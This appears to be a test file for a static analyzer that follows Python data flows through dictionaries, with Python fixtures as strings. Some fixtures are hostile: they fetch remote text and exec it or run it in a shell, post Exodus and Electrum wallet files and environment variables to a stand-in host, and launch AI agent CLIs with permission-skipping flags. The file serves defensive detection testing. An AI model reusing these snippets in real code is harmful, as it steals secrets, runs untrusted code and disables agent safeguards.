import { expect, test } from 'vitest';
import type { SinkKind, SourceKind } from '../../src/core/facts/source-facts.js';
import { read } from './reading.js';

type Way = readonly [SourceKind, SinkKind];

const flows = async (text: string, [from, to]: Way) => (await read(text)).facts?.flows({ from, to }).map(({ when }) => when) ?? [];
const runs = (dict: string): string => `import builtins, collections, copy, requests\n${dict}\ngetattr(builtins, settings["mode"])(requests.get("https://d.example.invalid").text)\n`;

test.each([
  ['a row of dicts', 'settings = collections.ChainMap({"theme": "dark"}, {"mode": "exec"})'],
  ['a dict that is unpacked into another one', 'base = {"mode": "exec"}\nsettings = {**base, "theme": "dark"}'],
  ['two dicts with a sign between them', 'settings = {"theme": "dark"} | {"mode": "exec"}'],
  ['a copy of a dict', 'settings = {"mode": "exec"}.copy()'],
  ['a deep copy of a dict', 'settings = copy.deepcopy({"mode": "exec"})'],
])('what %s holds is known under its name', async (_, dict) => {
  expect(await flows(runs(dict), ['network', 'exec'])).toContain('import');
});

test.each<[string, Way, string]>([
  ['rows of words that are parts of a path', ['credentials', 'network'], 'import os, requests\nPLACES = {"a": ("APPDATA", "Exodus", "exodus.wallet"), "b": ("APPDATA", "Electrum", "wallets")}\nfor name, (root, *rest) in PLACES.items():\n    requests.post("https://d.example.invalid", data=open(os.path.join(os.getenv(root) or "", *rest)).read())\n'],
  ['its keys, where those were fetched', ['network', 'process'], 'import concurrent.futures as cf, requests, subprocess\nwith cf.ThreadPoolExecutor() as pool:\n    jobs = {pool.submit(requests.get, place): place for place in places}\n    for job in cf.as_completed(jobs): subprocess.Popen(job.result().text, shell=True)\n'],
])('whoever goes through a dict meets %s', async (_, way, text) => {
  expect(await flows(text, way)).toContain('import');
});

const REGISTERS = 'import os, requests\nTASKS = {}\ndef task(name):\n    def deco(function):\n        TASKS[name] = function\n        return function\n    return deco\n';

test.each([
  ['a decorator has put into it under several names', `${REGISTERS}@task("see")\ndef see(): return str(dict(os.environ))\n@task("send")\ndef send(): requests.post("https://d.example.invalid", data=TASKS["see"]())\nsend()\n`],
  ['a decorator has put into it under their own names', 'import os, requests\nTASKS = {}\ndef task(function):\n    TASKS[function.__name__] = function\n    return function\n@task\ndef see(): return str(dict(os.environ))\nrequests.post("https://d.example.invalid", data=TASKS["see"]())\n'],
])('a dict gives the functions that %s', async (_, text) => {
  expect(await flows(text, ['environment', 'network'])).toContain('import');
});

const commands = async (text: string) => (await read(text)).facts?.calls('process').map((call) => call.text) ?? [];

test('the words of a list in a dict follow the program that stands before them', async () => {
  const text = 'import shutil, subprocess\nAGENTS = {"claude": ["--dangerously-skip-permissions", "-p"], "gemini": ["--yolo", "-p"]}\nfor program, words in AGENTS.items():\n    subprocess.run([shutil.which(program), *words, "list"])\n';
  expect(await commands(text)).toContain('claude --dangerously-skip-permissions -p list');
});

test('a text that is given in case a dict has no such entry is one of those that it may be', async () => {
  const { facts } = await read('import os\nSHELLS = {"bash": ".bashrc", "zsh": ".zshrc"}\nopen(os.path.join(os.path.expanduser("~"), SHELLS.get(shell, ".profile")), "a").write(line)\n');
  expect(facts?.calls('write').map(({ text }) => text)).toEqual(['~/.profile']);
});

test.each<[string, Way, string]>([
  ['names of variables, and not what they hold', ['environment', 'network'], 'import os, requests\nrequests.post("https://d.example.invalid", json={name: len(name) for name in ("PATH", "HOME")})\n'],
  ['rows of words of which none is a path to secrets', ['credentials', 'network'], 'import os, requests\nPLACES = {"a": ("APPDATA", "Garden", "beds.json"), "b": ("APPDATA", "Garden", "plants.json")}\nfor name, (root, *rest) in PLACES.items():\n    requests.post("https://d.example.invalid", data=open(os.path.join(os.getenv(root) or "", *rest)).read())\n'],
  ['an entry of another name', ['network', 'exec'], runs('settings = {**{"mode": "exec"}, "mode": "print"}')],
])('%s are left alone', async (_, way, text) => {
  expect(await flows(text, way)).toEqual([]);
});

const REPLY = 'import requests\nreply = requests.get("https://d.example.invalid").json()\n';

test.each([
  ['gone through', 'for name, code in reply.get("beds", {}).items():\n    exec(code)\n'],
  ['gone through by its values', 'beds = reply.get("beds", {})\nfor code in beds.values():\n    exec(code)\n'],
  ['laid into a text', 'exec("{rose}".format_map(reply.get("beds", {})))\n'],
  ['asked again', 'exec(reply.get("beds", {}).get("rose"))\n'],
])('a dict out of a reply, with an empty one in case there is none, is still of that reply where it is %s', async (_, text) => {
  expect(await flows(REPLY + text, ['network', 'exec'])).toContain('import');
});

test('an empty dict in case there is none brings nothing along', async () => {
  expect(await flows(`${REPLY}mine = {"a": {"b": "x = 1"}}\nfor name, code in mine.get("a", {}).items():\n    exec(code)\n`, ['network', 'exec'])).toEqual([]);
});
